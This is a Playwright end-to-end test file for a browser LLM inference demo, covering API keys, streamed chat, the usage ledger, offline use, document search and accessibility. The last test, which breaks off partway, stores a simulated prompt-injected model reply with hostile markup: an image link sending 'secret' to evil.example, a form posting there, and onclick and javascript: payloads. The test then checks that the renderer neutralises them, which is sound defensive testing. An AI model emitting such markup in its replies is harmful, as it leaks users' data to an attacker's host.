/**
 * The demo that `npm start` serves, as a person uses it, on the deterministic engine: keys,
 * a streamed chat, stopping a reply, the ledger and the chart, working offline, and the views at
 * phone and desktop widths (screenshots are saved as test artifacts).
 */
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { resolve } from "node:path";
import type { Page } from "@playwright/test";
import { expect, launchProfile, noGpuArgs, origin, test } from "../support/browser.js";
import { startUpstream } from "../support/upstream.js";

async function openDemo(page: Page, delay = 30): Promise<string[]> {
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  await page.goto(`${origin()}/demo/index.html?engine=deterministic&delay=${delay}`);
  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
  return errors;
}

async function chat(page: Page, text: string) {
  await page.getByRole("textbox", { name: "Message", exact: true }).fill(text);
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  const reply = page.locator("#conversation li.assistant").last();
  await expect(reply.locator(".stats")).toContainText("tokens", { timeout: 30_000 });
  return reply;
}

test("a person creates a key, chats, stops a reply, and sees the ledger and the chart", async ({ page }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  const errors = await openDemo(page, 120);
  await page.getByRole("tab", { name: "Keys & usage" }).click();
  await page.getByLabel("Name").fill("e2e");
  await page.getByRole("button", { name: "Create key" }).click();
  await expect(page.locator("#new-key-value")).toHaveText(/^sk-[A-Za-z0-9_-]{43}$/);
  await expect(page.locator("#keys-table tbody tr")).toHaveCount(2);
  await expect(page.locator("#keys-table tbody")).toContainText("(chat)");
  // The notice says how to use the key: the base URL and snippets with the key in them; Done clears it.
  const secret = await page.locator("#new-key-value").textContent();
  await expect(page.locator("#new-key-base")).toHaveText(/\/v1$/);
  await expect(page.locator("#new-key-snippets")).toContainText(`apiKey: "${secret}"`);
  await page.screenshot({ path: test.info().outputPath("demo-keys-new-key-1280.png"), fullPage: true });
  await page.getByRole("button", { name: "Done" }).click();
  await expect(page.locator("#new-key")).toBeHidden();
  await expect(page.locator("#new-key-value")).toHaveText("");

  await page.getByRole("tab", { name: "Chat" }).click();
  await page.locator("#model").selectOption("beta-2-9b-it");
  const reply = await chat(page, "What can you do offline?");
  expect((await reply.locator(".body").textContent())?.length).toBeGreaterThan(10);
  await expect(reply.locator(".stats")).toContainText("TTFT");

  // A long reply, stopped once it has begun to stream.
  await page.getByLabel("Max tokens").fill("400");
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Tell me a long story.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  const stopped = page.locator("#conversation li.assistant").last();
  await expect(stopped.locator(".body")).not.toHaveText("", { timeout: 20_000 });
  await page.keyboard.press("Escape");
  await expect(stopped.locator(".stats")).toContainText("stopped");
  await expect(page.getByRole("textbox", { name: "Message", exact: true })).toBeFocused();

  await page.getByRole("tab", { name: "Keys & usage" }).click();
  const rows = page.locator("#ledger-table tbody tr");
  await expect(rows.filter({ hasText: "aborted" })).toHaveCount(1, { timeout: 10_000 });
  await expect(rows.filter({ hasText: "completed" }).filter({ hasText: "beta-2-9b-it" })).toHaveCount(1);
  await expect(page.locator("#chart canvas")).toBeVisible();
  await expect(page.locator("#chart figcaption")).toContainText(/tokens and \$0\.\d{9} over the last 1 day\(s\)/);
  await expect(page.locator("#chart .u-legend")).toContainText("beta-2-9b-it");
  // The ledger names the key, and the CSV holds what is shown: ISO times, the key, USD.
  await expect(rows.first()).toContainText("e2e (");
  await expect(page.locator("#rate-state")).toContainText("Requests:");
  await expect(page.locator("#rate-state")).toContainText(/window resets at \d{1,2}:\d\d:\d\d/);
  await page.locator("#filter-model").selectOption("beta-2-9b-it");
  await expect(rows.filter({ hasText: "credit" })).toHaveCount(0);
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export CSV" }).click();
  const csv = readFileSync(await (await download).path(), "utf8")
    .trim()
    .split("\n");
  expect(csv[0]).toBe("time,kind,status,key,model,prompt_tokens,completion_tokens,usd,request_id");
  expect(csv.slice(1)).toHaveLength(await rows.count());
  for (const line of csv.slice(1))
    expect(line).toMatch(
      /^\d{4}-\d\d-\d\dT[\d:.]+Z,charge,(completed|aborted),e2e \(sk-[^)]+\),beta-2-9b-it,\d+,\d+,-0\.\d{9},req_/,
    );
  expect(errors).toEqual([]);

  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 900 });
    for (const view of ["Chat", "Models", "Keys & usage", "Documents"]) {
      await page.getByRole("tab", { name: view }).click();
      const overflow = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      expect({ width, view, overflow }).toEqual({ width, view, overflow: 0 });
      await page.screenshot({
        path: test.info().outputPath(`demo-${view.split(" ")[0]!.toLowerCase()}-${width}.png`),
        fullPage: true,
      });
    }
  }
});

test("after one visit the demo reloads and chats with the network off, and indexes, searches and answers from documents", async ({
  context,
  page,
}) => {
  await openDemo(page, 0);
  await chat(page, "Hello while online.");
  await context.setOffline(true);
  // The browser stops idle workers: the reload wakes a fresh one, which must serve the shell
  // from its cache while it is still reading its stored configuration.
  const cdp = await context.newCDPSession(page);
  await cdp.send("ServiceWorker.enable");
  await cdp.send("ServiceWorker.stopAllWorkers");
  await page.reload();
  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
  // The conversation is kept locally, and a new reply still streams in.
  await expect(page.locator("#conversation li.user").first()).toHaveText("Hello while online.");
  const reply = await chat(page, "Hello while offline.");
  expect((await reply.locator(".body").textContent())?.length).toBeGreaterThan(10);
  // A model of a family never used online: its tokenizer was precached when the worker installed.
  await page.locator("#model").selectOption("gamma-7b-instruct-v0.3");
  const other = await chat(page, "And with another model.");
  await expect(other.locator(".stats")).toContainText("gamma-7b-instruct-v0.3");
  // Documents too: a PDF is read, indexed and searched with the network off, and Chat answers from it.
  await page.getByRole("tab", { name: "Documents" }).click();
  await page.getByLabel("Choose files").setInputFiles({
    name: "kettle.pdf",
    mimeType: "application/pdf",
    buffer: readFileSync(resolve(import.meta.dirname, "../fixtures/documents/kettle.pdf")),
  });
  await expect(page.locator("#documents-table tbody tr").filter({ hasText: "kettle.pdf" })).toContainText("Indexed", {
    timeout: 20_000,
  });
  await page.getByLabel("Search your documents").fill("warranty");
  await page.getByRole("button", { name: "Search", exact: true }).click();
  await expect(page.locator("#documents-results li").first()).toContainText("kettle.pdf");
  await page.getByRole("tab", { name: "Chat" }).click();
  await page.getByLabel("Answer from my documents").check();
  const cited = await chat(page, "What does the warranty cover?");
  await expect(cited.locator(".sources summary")).toHaveText(["[1] kettle.pdf"]);
  await context.setOffline(false);
});

test("the models view lists the catalogue with windows, prices and what this device can run", async ({ page }) => {
  await openDemo(page);
  await page.getByRole("tab", { name: "Models" }).click();
  const rows = page.locator("#models-table tbody tr");
  // The four seed chat models, the two seed embedding models, and the demo's own small model for the CPU.
  await expect(rows).toHaveCount(7);
  await expect(rows.first()).toContainText("alpha3:8b-instruct-q8_0");
  await expect(rows.filter({ hasText: "nomic-embed-text-v1.5" })).toContainText("embeddings");
  // The chat offers chat models only.
  await expect(page.locator("#model option")).toHaveCount(5);
  await expect(page.locator("#model option[value='snowflake-arctic-embed-s']")).toHaveCount(0);
  await expect(rows.last()).toContainText("qwen2.5-0.5b-instruct");
  await expect(rows.first()).toContainText("8,192");
  await expect(rows.first()).toContainText("0.01 / 0.02");
  await expect(page.locator("#storage-usage")).toContainText("Using");
});

test("accessibility: every control is labelled, focus follows the layout, and Enter sends", async ({ page }) => {
  await openDemo(page);
  const unlabelled = await page.evaluate(() =>
    [...document.querySelectorAll("input, select, textarea, button")]
      .filter((control) => !(control as HTMLElement).closest("[hidden]"))
      .filter((control) => {
        const labelled =
          (control as HTMLInputElement).labels?.length ||
          control.getAttribute("aria-label") ||
          (control.tagName === "BUTTON" && control.textContent?.trim());
        return !labelled;
      })
      .map((control) => control.outerHTML),
  );
  expect(unlabelled).toEqual([]);
  await page.locator("body").focus();
  const order: string[] = [];
  for (let step = 0; step < 6; step++) {
    await page.keyboard.press("Tab");
    order.push(await page.evaluate(() => document.activeElement?.id ?? ""));
  }
  // One tab stop for the tab list (arrow keys move within it), then the chat settings.
  expect(order).toEqual(["tab-chat", "engine", "model", "temperature", "max-tokens", "json-mode"]);
  await page.locator("#tab-chat").focus();
  await page.keyboard.press("ArrowRight");
  await expect(page.locator("#tab-models")).toBeFocused();
  await expect(page.locator("#tab-models")).toHaveAttribute("aria-selected", "true");
  await expect(page.locator("#view-models")).toBeVisible();
  await page.keyboard.press("End");
  await expect(page.locator("#tab-documents")).toBeFocused();
  await expect(page.locator("#view-documents")).toBeVisible();
  await page.keyboard.press("ArrowLeft");
  await expect(page.locator("#tab-keys")).toBeFocused();
  await page.keyboard.press("End");
  await page.keyboard.press("ArrowRight");
  await expect(page.locator("#tab-chat")).toBeFocused();
  // Settings outside the API's ranges are named beside them, and nothing is sent.
  await page.getByLabel("Temperature").fill("");
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Not sent.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  await expect(page.locator("#settings-feedback")).toHaveText("Temperature must be a number from 0 to 2.");
  await expect(page.getByLabel("Temperature")).toHaveAttribute("aria-invalid", "true");
  await page.getByLabel("Temperature").fill("0.5");
  await page.getByLabel("Max tokens").fill("100000");
  await page.getByRole("button", { name: "Send" }).click();
  await expect(page.locator("#settings-feedback")).toContainText("Max tokens must be a whole number from 1 to");
  await expect(page.locator("#conversation li")).toHaveCount(0);
  await expect(page.getByRole("textbox", { name: "Message", exact: true })).toHaveValue("Not sent.");
  await page.getByLabel("Max tokens").fill("16");
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("");
  await page.getByRole("textbox", { name: "Message", exact: true }).focus();
  await page.keyboard.type("Sent with the keyboard.");
  await page.keyboard.press("Enter");
  await expect(page.locator("#conversation li.user").last()).toHaveText("Sent with the keyboard.");
});

test("failures a person can meet are plain sentences: a revoked key, a rate limit, no WebGPU", async ({
  context,
  page,
}) => {
  await openDemo(page, 0);
  await page.getByRole("tab", { name: "Keys & usage" }).click();
  const chatKeyRow = page.locator("#keys-table tbody tr").filter({ hasText: "(chat)" });
  await chatKeyRow.getByRole("spinbutton", { name: /Requests per minute/ }).fill("1");
  await chatKeyRow.getByRole("button", { name: "Save" }).click();
  await expect(chatKeyRow).toContainText("Saved.");
  await expect(chatKeyRow.getByRole("spinbutton", { name: /Requests per minute/ })).toHaveValue("1");

  // Start-up already spent this minute's window (the model list and model info), so the next request is refused.
  await page.getByRole("tab", { name: "Chat" }).click();
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Two.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  const limited = page.locator("#conversation li.error").last();
  await expect(limited).toContainText("Not answered: Too many requests or tokens for this key this minute");
  await expect(limited.getByRole("button", { name: "Retry" })).toBeVisible();
  await expect(limited.getByRole("button", { name: "Open Keys & usage" })).toBeVisible();
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await page.screenshot({ path: test.info().outputPath(`demo-chat-error-${width}.png`), fullPage: true });
  }
  await page.setViewportSize({ width: 1280, height: 900 });

  await page.getByRole("tab", { name: "Keys & usage" }).click();
  await chatKeyRow.getByRole("button", { name: "Revoke" }).click();
  const revoked = page.locator("#keys-table tbody tr").filter({ hasText: "(chat)" });
  await expect(revoked).toContainText("revoked");
  // A revoked key's limits are read-only, and its secret is no longer kept in this browser.
  await expect(revoked.getByRole("spinbutton")).toHaveCount(0);
  const chatKeyId = await page.evaluate(() => localStorage.getItem("webgpu-inference-demo-chat-key"));
  await expect
    .poll(() => page.evaluate(() => localStorage.getItem("webgpu-inference-demo-keys")))
    .not.toContain(chatKeyId!);
  const accountBefore = await page.evaluate(() => localStorage.getItem("webgpu-inference-demo-account"));
  await page.getByRole("tab", { name: "Chat" }).click();
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Three.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  await expect(page.locator("#conversation li.error").last()).toContainText(
    "Not answered: This API key was refused: it is missing, unknown or revoked. Pick or create one under Keys & usage.",
  );

  // A reload keeps the account: Chat gets a new key on it, and the revoked one is still listed.
  await page.reload();
  await expect(page.locator("#status")).toContainText(
    "The chat key was revoked; Chat now uses a new key on the same account.",
    { timeout: 30_000 },
  );
  expect(await page.evaluate(() => localStorage.getItem("webgpu-inference-demo-account"))).toBe(accountBefore);
  await page.getByRole("tab", { name: "Keys & usage" }).click();
  await expect(page.locator("#keys-table tbody tr")).toHaveCount(2);
  await expect(page.locator("#keys-table tbody tr").filter({ hasText: "revoked" })).toHaveCount(1);
  await expect(page.locator("#keys-table tbody tr").filter({ hasText: "(chat)" })).toContainText("active");
  // The failed turns stay visible after the reload, but are not sent again as context.
  await page.getByRole("tab", { name: "Chat" }).click();
  await expect(page.locator("#conversation li.error")).toHaveCount(2);
  const answered = await chat(page, "Four.");
  await expect(answered.locator(".stats")).toContainText("tokens");
  const ledger = await page.evaluate(async () => {
    const history = JSON.parse(localStorage.getItem("webgpu-inference-demo-conversation") ?? "[]") as {
      role: string;
      failed?: string;
    }[];
    return history.map((entry) => `${entry.role}${entry.failed ? " (failed)" : ""}`);
  });
  expect(ledger).toEqual(["user (failed)", "user (failed)", "user", "assistant"]);

  // One configuration serves every tab: this tab (deterministic) goes before one starts under auto.
  await page.close();
  const noGpu = await context.newPage();
  await noGpu.addInitScript(() => {
    delete (Navigator.prototype as { gpu?: unknown }).gpu;
  });
  await noGpu.goto(`${origin()}/demo/index.html`);
  await expect(noGpu.locator("#engine")).toHaveValue("auto");
  await expect(noGpu.locator("#banner")).toContainText(
    "No model runs on a GPU here (this browser has no WebGPU). Models run on the CPU with llama.cpp instead",
    { timeout: 30_000 },
  );
  await expect(noGpu.locator("#model")).toHaveValue("qwen2.5-0.5b-instruct");
});

test("a balance that cannot cover the reply is a plain sentence, and crediting the account fixes it", async ({
  page,
}) => {
  await page.goto(`${origin()}/demo/index.html?engine=deterministic&config=/demo/premium-config.json`);
  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
  await page.locator("#model").selectOption("premium-9b");
  await page.getByLabel("Max tokens").fill("8");
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Hello.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  const refused = page.locator("#conversation li.error").last();
  await expect(refused).toContainText(
    "Not answered: The account's balance cannot cover this request. Add credit under Keys & usage.",
  );

  // Eight output tokens at $1 each, plus the prompt: $10 more covers it. The error's own link opens the view.
  await refused.getByRole("button", { name: "Open Keys & usage" }).click();
  await expect(page.locator("#tab-keys")).toHaveAttribute("aria-selected", "true");
  await page.getByLabel("Add USD").fill("10");
  await page.getByRole("button", { name: "Add credit" }).click();
  await expect(page.locator("#credit-feedback")).toHaveText("Added $10.00.");
  await expect(page.locator("#balance")).toContainText("Balance $11");
  await page.getByRole("tab", { name: "Chat" }).click();
  // Retry sends the same message again, in place of the failed one.
  await refused.getByRole("button", { name: "Retry" }).click();
  await expect(page.locator("#conversation li.error")).toHaveCount(0);
  const reply = page.locator("#conversation li.assistant").last();
  await expect(reply.locator(".stats")).toContainText("$", { timeout: 30_000 });
  await expect(reply.locator(".stats")).toContainText("Simulated reply (deterministic engine)");
  await expect(page.locator("#conversation li.user")).toHaveCount(1);
});

test("a ?config= model served by a server on this machine's loopback answers in the demo, under its Content Security Policy", async ({
  page,
}) => {
  // llama-server's ways on 127.0.0.1, a port of its own: another origin than the demo's.
  const upstream = await startUpstream("unused");
  const config = resolve(import.meta.dirname, "../../.cache/e2e/demo/loopback-config.json");
  try {
    writeFileSync(
      config,
      JSON.stringify({
        models: [
          {
            id: "laptop-8b",
            family: "llama3",
            contextWindow: 8_192,
            price: { inputNanoUsdPerToken: 10, outputNanoUsdPerToken: 20 },
            routing: "remote",
            upstreams: [{ name: "laptop", baseUrl: `${upstream.origin}/llama/v1`, model: "llama-3-8b" }],
          },
        ],
      }),
    );
    await page.goto(`${origin()}/demo/index.html?engine=deterministic&config=/demo/loopback-config.json`);
    await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
    await page.locator("#model").selectOption("laptop-8b");
    const reply = await chat(page, "Say four words.");
    await expect(reply).toContainText("The quick brown fox");
    expect(upstream.calls.map((call) => [call.mode, call.path, call.body.model])).toEqual([
      ["llama", "/v1/chat/completions", "llama-3-8b"],
    ]);
  } finally {
    rmSync(config, { force: true });
    await upstream.close();
  }
});

test("a new version of the worker is announced, and Reload takes it", async ({ page }) => {
  await openDemo(page, 0);
  await expect(page.locator("#banner")).toBeHidden();
  // A deployment ships a changed worker script; the browser finds it on the next visit.
  const override = resolve(import.meta.dirname, "../../.cache/e2e/demo/sw.js");
  writeFileSync(
    override,
    `${readFileSync(resolve(import.meta.dirname, "../../dist/demo/sw.js"), "utf8")}\n// the next version\n`,
  );
  try {
    await page.reload();
    await expect(page.locator("#banner")).toContainText("A new version of this app has taken over.", {
      timeout: 30_000,
    });
    await page.locator("#banner").getByRole("button", { name: "Reload" }).click();
    await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
    await expect(page.locator("#banner")).toBeHidden();
    await chat(page, "Still here after the update?");
  } finally {
    rmSync(override, { force: true });
  }
});

test("a browser with WebGPU but no adapter gets real answers on the CPU, and again offline", async () => {
  const profile = await launchProfile(noGpuArgs);
  try {
    const page = profile.context.pages()[0] ?? (await profile.context.newPage());
    // The demo's CPU model, its GGUF pointed at the test one (see global-setup).
    await page.goto(`${origin()}/demo/index.html?config=/demo/cpu-config.json`);
    await expect(page.locator("#engine")).toHaveValue("auto");
    await expect(page.locator("#banner")).toContainText(
      "No model runs on a GPU here (WebGPU gives no adapter here). Models run on the CPU with llama.cpp instead",
      { timeout: 30_000 },
    );
    await expect(page.locator("#model")).toHaveValue("qwen2.5-0.5b-instruct");
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 900 });
      await page.screenshot({ path: test.info().outputPath(`demo-chat-no-gpu-${width}.png`), fullPage: true });
    }
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.getByRole("tab", { name: "Models" }).click();
    await expect(page.locator("#models-table tbody tr").filter({ hasText: "qwen2.5-0.5b-instruct" })).toContainText(
      "CPU (llama.cpp)llama.cpp, as web-llm: no MLC build",
    );
    await page.getByRole("tab", { name: "Chat" }).click();
    await page.getByLabel("Max tokens").fill("4");
    const online = await chat(page, "Hello on the CPU.");
    await expect(online.locator(".stats")).toContainText("4 tokens");

    await expect(page.locator("#offline")).toBeHidden();
    await profile.context.setOffline(true);
    // The header says so as the connection goes (Chromium's emulation does not keep
    // navigator.onLine false across the reload below, so it is checked here).
    await expect(page.locator("#offline")).toBeVisible();
    const cdp = await profile.context.newCDPSession(page);
    await cdp.send("ServiceWorker.enable");
    await cdp.send("ServiceWorker.stopAllWorkers");
    await page.reload();
    await expect(page.locator("#status")).toContainText("Ready", { timeout: 30_000 });
    await page.getByLabel("Max tokens").fill("4");
    const offline = await chat(page, "Hello offline.");
    await expect(offline.locator(".stats")).toContainText("4 tokens");
  } finally {
    await profile.dispose();
  }
});

test("a person uploads documents, by choosing and by dropping them, sees them listed with the account's storage, and deletes one", async ({
  page,
}) => {
  await openDemo(page, 0);
  await page.getByRole("tab", { name: "Documents" }).click();
  await expect(page.locator("#documents-table tbody")).toHaveText("No documents yet.");
  await page.getByLabel("Choose files").setInputFiles([
    { name: "notes.md", mimeType: "text/markdown", buffer: Buffer.from("# Notes\n\nApples are red.") },
    { name: "manual.html", mimeType: "text/html", buffer: Buffer.from("<h1>Manual</h1>".repeat(100)) },
  ]);
  await expect(page.locator("#documents-feedback")).toHaveText("Uploaded 2 files; they are being indexed.");
  // Dropped as a person drags a file from their desktop onto the view.
  await page.locator("#documents-drop").evaluate((target) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File(["a,b\n1,2\n"], "table.csv", { type: "text/csv" }));
    target.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
  });
  await expect(page.locator("#documents-feedback")).toHaveText("Uploaded table.csv; it is being indexed.");
  const rows = page.locator("#documents-table tbody tr");
  await expect(rows).toHaveCount(3);
  await expect(rows.first()).toContainText("table.csv");
  await expect(rows.filter({ hasText: "manual.html" })).toContainText("1.5 kB");
  await expect(page.locator("#documents-usage")).toContainText("(3 files)");
  await page.getByRole("button", { name: "Delete notes.md" }).click();
  await expect(page.locator("#documents-feedback")).toHaveText("Deleted notes.md.");
  await expect(rows).toHaveCount(2);
  await expect(page.locator("#documents-usage")).toContainText("(2 files)");
  // What the view shows is what the API holds for the chat key's account.
  await page.reload();
  await expect(page.locator("#status")).toContainText("Ready", { timeout: 30_000 });
  await page.getByRole("tab", { name: "Documents" }).click();
  await expect(rows).toHaveCount(2);
  await expect(page.locator("#documents-table")).not.toContainText("notes.md");
});

test("a person searches their documents, chats from them with sources that open the passage, and returns to an earlier chat", async ({
  page,
}) => {
  await openDemo(page, 0);
  await page.getByRole("tab", { name: "Documents" }).click();
  await page.getByLabel("Choose files").setInputFiles([
    {
      name: "orchard.md",
      mimeType: "text/markdown",
      buffer: Buffer.from("# Orchard\n\nOur apples are red and crisp."),
    },
    {
      name: "kettle.pdf",
      mimeType: "application/pdf",
      buffer: readFileSync(resolve(import.meta.dirname, "../fixtures/documents/kettle.pdf")),
    },
  ]);
  const rows = page.locator("#documents-table tbody tr");
  // Indexed in the worker's background; the row says how far it came, in chunks, tokens and cost.
  await expect(rows.filter({ hasText: "orchard.md" })).toContainText(/Indexed: 1 chunk · \d+ tokens · \$0\.0+\d+/, {
    timeout: 20_000,
  });
  await expect(rows.filter({ hasText: "kettle.pdf" })).toContainText("Indexed: 1 chunk", { timeout: 20_000 });
  await page.getByLabel("Search your documents").fill("descale the kettle");
  await page.getByRole("button", { name: "Search", exact: true }).click();
  const passages = page.locator("#documents-results li");
  await expect(passages.first()).toContainText("kettle.pdf");
  await expect(passages.first().locator("blockquote")).toContainText("white vinegar");
  await page.screenshot({ path: test.info().outputPath("demo-documents-search.png"), fullPage: true });

  await page.getByRole("tab", { name: "Chat" }).click();
  await page.getByLabel("Answer from my documents").check();
  const reply = await chat(page, "What colour are our apples?");
  const source = reply.locator(".sources details").filter({ hasText: "orchard.md" });
  await expect(source).toHaveCount(1);
  await expect(source.locator("blockquote")).toBeHidden();
  await source.locator("summary").click();
  await expect(source.locator("blockquote")).toHaveText("# Orchard\n\nOur apples are red and crisp.");
  await page.screenshot({ path: test.info().outputPath("demo-chat-sources.png"), fullPage: true });

  // Each chat is kept in the API's conversations: a new one, then back to the first, after a reload too.
  const chats = page.getByRole("combobox", { name: "Chats" });
  await expect(chats.locator("option")).toHaveText(["What colour are our apples?"]);
  await page.getByRole("button", { name: "New chat" }).click();
  await page.getByLabel("Answer from my documents").uncheck();
  await chat(page, "Hello there.");
  await expect(chats.locator("option")).toHaveText(["Hello there.", "What colour are our apples?"]);
  await page.reload();
  await expect(page.locator("#status")).toContainText("Ready", { timeout: 30_000 });
  await expect(page.locator("#conversation li.user")).toHaveText(["Hello there."]);
  await chats.selectOption({ label: "What colour are our apples?" });
  await expect(page.locator("#conversation li.user")).toHaveText(["What colour are our apples?"]);
  await expect(page.locator("#conversation li.assistant")).toHaveCount(1);
  await expect(chats).toHaveValue(/^conv_/);
});

test("axe finds no serious or critical problem in any view, at 1280 and 390 px, light and dark", async ({ page }) => {
  await openDemo(page, 0);
  await chat(page, "Hello **there**.");
  // A script from this origin: the demo's Content Security Policy refuses inline ones.
  await page.addScriptTag({ url: `${origin()}/axe/axe.min.js` });
  const findings: string[] = [];
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 900 });
      for (const view of ["Chat", "Models", "Keys & usage", "Documents"]) {
        await page.getByRole("tab", { name: view }).click();
        await expect(page.locator("[role=tabpanel]:not([hidden])")).toBeVisible();
        const violations = await page.evaluate(async () => {
          const axe = (
            window as unknown as {
              axe: {
                run(
                  context: Document,
                  options: object,
                ): Promise<{ violations: { id: string; impact: string; nodes: { target: string[] }[] }[] }>;
              };
            }
          ).axe;
          const result = await axe.run(document, { resultTypes: ["violations"] });
          return result.violations
            .filter((violation) => violation.impact === "serious" || violation.impact === "critical")
            .map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.target.join(" ")).join(", ")}`);
        });
        findings.push(...violations.map((violation) => `${colorScheme} ${width} ${view}: ${violation}`));
        await page.screenshot({
          path: test.info().outputPath(`demo-${view.split(" ")[0]!.toLowerCase()}-${width}-${colorScheme}.png`),
          fullPage: true,
        });
      }
    }
  }
  expect(findings).toEqual([]);
});

test("on a phone the composer stays pinned and the settings open over the conversation from it", async ({ page }) => {
  await openDemo(page, 0);
  await page.setViewportSize({ width: 390, height: 800 });
  const settings = page.getByRole("form", { name: "Chat settings" });
  const composer = page.locator("#composer");
  await expect(settings).toBeHidden();
  for (const turn of [1, 2, 3, 4])
    await chat(page, `A message long enough to take a few lines on a phone, number ${turn}.`);
  // The conversation is taller than the screen, and the composer is still on it, at the bottom.
  expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeGreaterThan(800);
  await page.evaluate(() => window.scrollTo(0, 0));
  const pinned = (await composer.boundingBox())!;
  expect(pinned.y + pinned.height).toBeGreaterThan(700);
  expect(pinned.y + pinned.height).toBeLessThanOrEqual(800);

  await page.getByRole("button", { name: "Settings" }).click();
  await expect(settings).toBeVisible();
  await expect(page.locator("#settings-panel:popover-open")).toHaveCount(1);
  await page.screenshot({ path: test.info().outputPath("demo-chat-settings-390.png") });
  await page.getByLabel("Temperature").fill("5");
  await page.keyboard.press("Escape");
  await expect(settings).toBeHidden();
  // A setting out of range opens them again, with the sentence, and nothing is sent.
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Not yet.");
  await page.getByRole("textbox", { name: "Message", exact: true }).press("Enter");
  await expect(settings).toBeVisible();
  await expect(page.locator("#settings-feedback")).toHaveText("Temperature must be a number from 0 to 2.");
  await page.getByLabel("Temperature").fill("0");
  await page.getByLabel("Max tokens").fill("2");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Send" }).click();
  const reply = page.locator("#conversation li.assistant").last();
  await expect(reply.locator(".stats")).toContainText(/\+ 2 tokens/, { timeout: 30_000 });
  await expect(reply.locator(".stats")).toContainText("Cut at max tokens");
});

test("replies keep their model, stats and marks across a reload; JSON is pretty-printed; Chat can switch keys", async ({
  page,
}) => {
  await openDemo(page, 0);
  await page.locator("#model").selectOption("beta-2-9b-it");
  await page.getByLabel("Max tokens").fill("3");
  const cut = await chat(page, "Say a lot.");
  await expect(cut.locator(".stats")).toContainText("Cut at max tokens");
  await page.getByLabel("Max tokens").fill("64");
  await page.getByLabel("JSON mode").check();
  const json = await chat(page, "Some JSON, please.");
  const printed = await json.locator(".body pre code").textContent();
  expect(() => JSON.parse(printed ?? "")).not.toThrow();
  expect(printed).toContain("\n  ");
  const statsBefore = await page.locator("#conversation li.assistant .stats").allTextContents();

  await page.reload();
  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
  expect(await page.locator("#conversation li.assistant .stats").allTextContents()).toEqual(statsBefore);
  expect(statsBefore[0]).toContain("beta-2-9b-it · ");
  await expect(page.locator("#conversation li.assistant").last().locator(".body pre code")).toHaveText(printed ?? "");

  // A second key: Chat uses the new one, and the picker switches back; each reply is billed to the key in use.
  await page.getByRole("tab", { name: "Keys & usage" }).click();
  await page.getByLabel("Name").fill("second");
  await page.getByRole("button", { name: "Create key" }).click();
  await page.getByRole("button", { name: "Done" }).click();
  const first = page.locator("#keys-table tbody tr").filter({ hasText: "demo chat" });
  await expect(page.locator("#keys-table tbody tr").filter({ hasText: "second" })).toContainText("(chat)");
  await first.getByRole("button", { name: "Use for chat" }).click();
  await expect(first).toContainText("(chat)");
  await expect(page.locator("#keys-feedback")).toContainText("Chat now uses sk-");
  await page.getByRole("tab", { name: "Chat" }).click();
  await page.getByLabel("JSON mode").uncheck();
  await chat(page, "Billed to the first key.");
  await page.getByRole("tab", { name: "Keys & usage" }).click();
  await expect(page.locator("#ledger-table tbody tr").first()).toContainText("demo chat (");
});

test("a reply is untrusted markup: nothing in it loads or acts by itself, links open apart; a foreign ?config= is refused", async ({
  page,
}) => {
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await openDemo(page, 0);
  // A prompt-injected reply, as a model could write it, kept in the conversation as the demo keeps replies.
  const hostile = [
    "![x](https://evil.example/leak.png?d=secret)",
    '<img src="https://evil.example/raw.png"><form action="https://evil.example/f"><button>Go</button></form>',
    '<style>body{display:none}</style><p id="status" name="x" style="color:red" onclick="alert(1)">clobber</p>',
    "[a link](https://example.org/page) [js](javascript:alert(1))",
  ].join("\n\n");
  await page.evaluate((content) => {
    localStorage.setItem(
      "webgpu-inference-demo-conversation",
      JSON.stringify([
        { role: "user", content: "hi" },
        { role: "assistant", content },
      ]),
    );
  }, hostile);
  await page.reload();
  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
  const body = page.locator("#conversation li.assistant .body").last();
  await expect(body).toContainText("clobber");
  expect(await body.locator("img, form, style, button, [id], [name], [style], [onclick]").count()).toBe(0);
  await expect(body.getByRole("link", { name: "x" })).toHaveAttribute("href", "https://evil.example/leak.png?d=secret");
  expect(await body.locator("a:not([href])").allTextContents()).toEqual(["js"]);
  for (const link of await body.locator("a[href]").all()) {
    await expect(link).toHaveAttribute("rel", "noopener noreferrer");
    expect(await link.getAttribute("href")).toMatch(/^https:/);
  }
